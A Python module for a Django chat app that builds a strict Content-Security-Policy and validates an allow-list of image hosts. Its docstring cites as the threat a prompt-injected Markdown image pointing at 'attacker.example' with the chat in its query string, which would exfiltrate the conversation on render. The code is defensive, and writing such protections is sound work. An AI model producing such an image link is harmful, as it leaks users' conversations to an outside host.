"""The Content-Security-Policy of every page, and the image hosts it allows.

One policy for every response, the Django admin's included (its pages have no inline script
or style); only the sign-in and sign-up pages widen it, for Cloudflare Turnstile when
librechat.yaml configures it (accounts/turnstile.py, `allow_widget`). django-csp's
middleware sends it; SecurityMiddleware sends HSTS (over HTTPS), nosniff and Referrer-Policy
from the SECURE_* settings.

Model output is the threat: a prompt-injected `![](https://attacker.example/?q=<chat>)`
would send the conversation away the moment it renders. So images come only from the site,
`data:` and `blob:`, plus the hosts the operator lists in ALLOWED_IMAGE_HOSTS; the browser's
Markdown renderer (static/src/markdown.js) shows any other image as a link, with the same
list (the `image-sources` meta tag of templates/base.html).
"""

from __future__ import annotations

import re
from urllib.parse import urlsplit

from csp.constants import NONE, SELF

from chatapp.conf.environment import EnvError

# A host name or address, optionally `*.` and at least two labels under the star, and a port.
_HOST = re.compile(r"(\*\.[a-z0-9-]+(\.[a-z0-9-]+)+|[a-z0-9-]+(\.[a-z0-9-]+)*)(:\d{1,5})?")
_EXPECTED = "host names (img.example.com, *.example.com) or origins (https://img.example.com:8443)"


def image_sources(raw: str, name: str = "ALLOWED_IMAGE_HOSTS") -> list[str]:
    """ALLOWED_IMAGE_HOSTS (comma or space separated) as CSP sources.

    A bare host means HTTPS on its default port (or the one given); an http(s) origin is kept
    as it is. Nothing wider than a host is accepted: no `*`, no scheme alone, no path.
    """
    sources = []
    for entry in raw.replace(",", " ").split():
        value = entry.lower()
        if "://" not in value:
            value = f"https://{value}"
        parts = urlsplit(value)
        plain = not (parts.query or parts.fragment or parts.username or parts.path.strip("/"))
        if parts.scheme not in ("http", "https") or not plain or not _HOST.fullmatch(parts.netloc):
            raise EnvError(name, raw, _EXPECTED)
        sources.append(f"{parts.scheme}://{parts.netloc}")
    return sources


def socket_sources(domains: list[str]) -> list[str]:
    """The WebSocket origins of the site's own domains (ws for http, wss for https).

    CSP3 browsers already match 'self' to the page's ws(s) origin; these say it for the
    others and for a socket reached through DOMAIN_SERVER.
    """
    sources = []
    for domain in domains:
        parts = urlsplit(domain)
        source = f"{'wss' if parts.scheme == 'https' else 'ws'}://{parts.netloc}"
        if source not in sources:
            sources.append(source)
    return sources


def policy(domains: list[str], image_sources: list[str]) -> dict:
    """django-csp's CONTENT_SECURITY_POLICY setting.

    No inline script or style and no eval anywhere: the scripts are one bundle from
    static/dist (Alpine's CSP build, htmx with allowEval off), and the inline styles KaTeX
    and markdown-it produce are applied through the CSSOM (static/src/markdown.js), which
    style-src does not govern. form-action is left open: the social and OpenID sign-in
    forms post here and are redirected to the provider, which form-action would block.
    """
    return {
        "DIRECTIVES": {
            "default-src": [SELF],
            "script-src": [SELF],
            "style-src": [SELF],
            "img-src": [SELF, "data:", "blob:", *image_sources],
            "font-src": [SELF],
            "connect-src": [SELF, *socket_sources(domains)],
            "object-src": [NONE],
            "base-uri": [NONE],
            "frame-ancestors": [NONE],
        }
    }
